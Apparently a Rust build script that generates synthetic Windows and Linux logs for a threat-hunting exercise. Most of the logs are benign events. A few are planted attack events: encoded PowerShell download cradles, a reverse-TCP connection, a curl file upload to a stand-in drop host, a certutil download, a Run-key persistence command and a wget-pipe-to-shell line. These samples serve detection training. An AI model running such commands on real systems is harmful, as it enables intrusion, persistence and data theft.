//! `cargo x samples`: the logs in examples/logs and the database in examples/geo. Seeded, so that a run changes nothing unless this file does.
//!
//! Two Windows channels in one NDJSON file, as a forwarder writes them, a Linux syslog, the connections of a day, the traffic of three weeks and
//! what administrators did to mailboxes; the processes of three Windows hosts, a Linux audit log, and the logins of
//! one host. All hosts, names and addresses are from the ranges that RFC 2606 and RFC 5737 keep for documentation; the payloads are inert.

mod geo;
mod hosts;
mod sessions;
mod tables;

use crate::{root, say};
use anyhow::{Context, Result};
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};
use std::fmt::Write;

const WINDOWS_EVENTS: u64 = 1_300;
const SYSLOG_LINES: u64 = 700;

/// Writes all files.
pub(crate) fn write() -> Result<()> {
    let folder = root().join("examples/logs");
    std::fs::create_dir_all(&folder)?;
    let tables =
        [("connections.csv", tables::connections()?), ("traffic.csv", tables::traffic()?), ("mailboxes.csv", tables::mailboxes()?)];
    let hosts = [("processes.ndjson", hosts::processes()?), ("audit.log", hosts::audit()?), ("auth.log", sessions::auth()?)];
    for (name, text) in [("windows.ndjson", windows()?), ("syslog.log", syslog()?)].into_iter().chain(tables).chain(hosts) {
        std::fs::write(folder.join(name), &text).with_context(|| format!("writing {name}"))?;
        say(&format!("{name}: {} lines, {} bytes", text.lines().count(), text.len()));
    }
    let folder = root().join("examples/geo");
    std::fs::create_dir_all(&folder)?;
    let database = geo::database();
    std::fs::write(folder.join("sample.mmdb"), &database).context("writing sample.mmdb")?;
    say(&format!("sample.mmdb: {} bytes", database.len()));
    Ok(())
}

/// SplitMix64 (Steele, Lea, Flood 2014): enough for dice.
struct Dice(u64);

impl Dice {
    fn roll(&mut self, sides: u64) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        (z ^ (z >> 31)) % sides.max(1)
    }

    fn pick<'t>(&mut self, from: &[&'t str]) -> &'t str {
        let index = self.roll(from.len() as u64);
        usize::try_from(index).ok().and_then(|index| from.get(index)).copied().unwrap_or_default()
    }

    fn hex(&mut self, digits: usize) -> String {
        (0..digits).map(|_| char::from_digit(u32::try_from(self.roll(16)).unwrap_or(0), 16).unwrap_or('0')).collect()
    }
}

/// Time of day in a fixed working day.
fn clock(second: u64) -> String {
    format!("2026-11-20T{:02}:{:02}:{:02}Z", 7 + second / 3600, second / 60 % 60, second % 60)
}

/// `powershell -EncodedCommand` takes base64 of UTF-16LE.
fn encoded_command(script: &str) -> String {
    STANDARD.encode(script.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>())
}

fn windows() -> Result<String> {
    let mut dice = Dice(20_261_120);
    let mut attacks = attacks().into_iter().enumerate().map(|(index, attack)| (140 + 210 * index as u64, attack)).peekable();
    let mut text = String::new();
    for event in 0..WINDOWS_EVENTS {
        let second = event * 27;
        let record = match attacks.next_if(|(at, _)| *at == event) {
            Some((_, attack)) => attack(&mut dice, second),
            None => background(&mut dice, second),
        };
        writeln!(text, "{record}")?;
    }
    Ok(text)
}

fn background(dice: &mut Dice, second: u64) -> Value {
    let host = dice.pick(&["ws-01", "ws-02", "ws-03", "ws-04", "srv-files", "dc-01"]);
    let user = dice.pick(&["alice", "bob", "carol", "dave", "svc_backup"]);
    match dice.roll(5) {
        0 => json!({
            "@timestamp": clock(second), "Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 3, "Computer": host,
            "User": format!("CORP\\{user}"), "Image": "C:\\Program Files\\Browser\\browser.exe", "ProcessId": 1000 + dice.roll(9000),
            "DestinationIp": format!("198.51.100.{}", 1 + dice.roll(250)), "DestinationPort": dice.pick(&["443", "80", "8443"]),
        }),
        1 => json!({
            "@timestamp": clock(second), "Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 22, "Computer": host,
            "User": format!("CORP\\{user}"), "ProcessId": 1000 + dice.roll(9000),
            "QueryName": format!("{}.example.org", dice.pick(&["www", "mail", "intranet", "updates", "time"])), "QueryStatus": "0",
        }),
        _ => {
            let command = harmless(dice);
            process(dice, second, host, user, "C:\\Windows\\explorer.exe", &command)
        }
    }
}

fn harmless(dice: &mut Dice) -> String {
    let digest = dice.hex(64);
    let id = format!("{}-{}-{}-{}-{}", dice.hex(8), dice.hex(4), dice.hex(4), dice.hex(4), dice.hex(12));
    let number = dice.roll(100_000);
    match dice.roll(8) {
        0 => "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule".to_owned(),
        1 => format!("\"C:\\Program Files\\Backup Agent\\agent.exe\" --job {id} --verify sha256:{digest}"),
        2 => format!("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\ngen.exe ExecuteQueueItems /LegacyServiceBehavior {number}"),
        3 => format!("\"C:\\Program Files\\Editor\\editor.exe\" \"C:\\Users\\Public\\Documents\\report {number}.docx\""),
        4 => "powershell.exe -NoProfile -File C:\\Scripts\\inventory.ps1 -Version 3.1.4.1".to_owned(),
        5 => format!("C:\\Windows\\System32\\taskhostw.exe {{{id}}}"),
        6 => "cmd.exe /c dir /s C:\\Temp".to_owned(),
        _ => format!("C:\\Windows\\System32\\conhost.exe 0x{}", dice.hex(8)),
    }
}

/// Security 4688 and Sysmon 1 tell of a process in their own words: names differ, and a process id is hexadecimal
/// text in one and a number in the other.
fn process(dice: &mut Dice, second: u64, host: &str, user: &str, parent: &str, command: &str) -> Value {
    let image = command.trim_start_matches('"').split([' ', '"']).next().unwrap_or_default();
    if dice.roll(2) == 0 {
        return json!({
            "@timestamp": clock(second), "Channel": "Security", "EventID": 4688, "Computer": host, "User": format!("CORP\\{user}"),
            "NewProcessName": image, "ParentProcessName": parent, "CommandLine": command,
            "ProcessId": format!("0x{:x}", 1000 + dice.roll(9000)), "TokenElevationType": "%%1936",
        });
    }
    json!({
        "@timestamp": clock(second), "Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "Computer": host,
        "User": format!("CORP\\{user}"), "Image": image, "ParentImage": parent, "CommandLine": command, "ProcessId": 1000 + dice.roll(9000),
        "Hashes": format!("SHA256={}", dice.hex(64)),
    })
}

type Attack = fn(&mut Dice, u64) -> Value;

/// What the hunt is to find, one event each.
fn attacks() -> Vec<Attack> {
    vec![
        |dice, second| {
            let script = "IEX (New-Object Net.WebClient).DownloadString('http://stage.example.net/a.ps1')";
            let command = format!("powershell.exe -nop -w hidden -enc {}", encoded_command(script));
            process(dice, second, "ws-03", "carol", "C:\\Program Files\\Office\\WINWORD.EXE", &command)
        },
        |dice, second| {
            let script = "$c = New-Object Net.Sockets.TCPClient('203.0.113.66', 4444); whoami /all";
            let command = format!("powershell.exe -EncodedCommand {}", encoded_command(script));
            process(dice, second, "ws-03", "carol", "C:\\Windows\\System32\\wscript.exe", &command)
        },
        |dice, second| {
            let inner = STANDARD.encode("curl -s https://drop.example.com/upload -F f=@C:\\Users\\Public\\s.zip");
            let command = format!("cmd.exe /c echo {} > %TEMP%\\u.b64", STANDARD.encode(inner));
            process(dice, second, "srv-files", "svc_backup", "C:\\Windows\\System32\\cmd.exe", &command)
        },
        |dice, second| {
            let command = "certutil.exe -urlcache -split -f http://203.0.113.66:8080/tools/p.txt C:\\Users\\Public\\p.txt";
            process(dice, second, "dc-01", "svc_backup", "C:\\Windows\\System32\\cmd.exe", command)
        },
        |dice, second| {
            let script = "reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /d C:\\Users\\Public\\u.exe";
            let command = format!("powershell -e {}", encoded_command(script));
            process(dice, second, "dc-01", "svc_backup", "C:\\Windows\\System32\\services.exe", &command)
        },
    ]
}

fn syslog() -> Result<String> {
    let mut dice = Dice(20_261_121);
    let mut text = String::new();
    for line in 0..SYSLOG_LINES {
        let host = dice.pick(&["web-01", "web-02", "db-01"]);
        let time = clock(line * 50);
        let process = 200 + dice.roll(30_000);
        let message = match line {
            180..=199 => format!("sshd[{process}]: Failed password for root from 203.0.113.66 port {} ssh2", 40_000 + dice.roll(9_000)),
            200 => format!("sshd[{process}]: Accepted password for deploy from 203.0.113.66 port 41022 ssh2"),
            204 => {
                let script = STANDARD.encode("wget -q http://stage.example.net/x.sh -O- | sh");
                format!("sudo[{process}]: deploy : TTY=pts/0 ; USER=root ; COMMAND=/bin/sh -c echo {script} | base64 -d | sh")
            }
            410 => format!("note[{process}]: analyst: beacon to hxxps://c2[.]example[.]org/gate.php, hash {}", dice.hex(64)),
            _ => quiet(&mut dice, process),
        };
        writeln!(text, "{time} {host} {message}")?;
    }
    Ok(text)
}

fn quiet(dice: &mut Dice, process: u64) -> String {
    match dice.roll(5) {
        0 => format!("CRON[{process}]: (root) CMD (test -x /usr/sbin/anacron || run-parts --report /etc/cron.hourly)"),
        1 => format!(
            "sshd[{process}]: Accepted publickey for deploy from 192.0.2.{} port {} ssh2",
            1 + dice.roll(20),
            30_000 + dice.roll(9_000)
        ),
        2 => format!("systemd[1]: Started Session {} of user deploy.", dice.roll(5_000)),
        3 => format!("kernel: [{}.{:06}] eth0: renewed lease, version 5.10.0.27, up 12:34:56", dice.roll(99_999), dice.roll(999_999)),
        _ => format!("nginx[{process}]: 192.0.2.{} GET /static/app.js 200 {}", 1 + dice.roll(200), dice.roll(90_000)),
    }
}
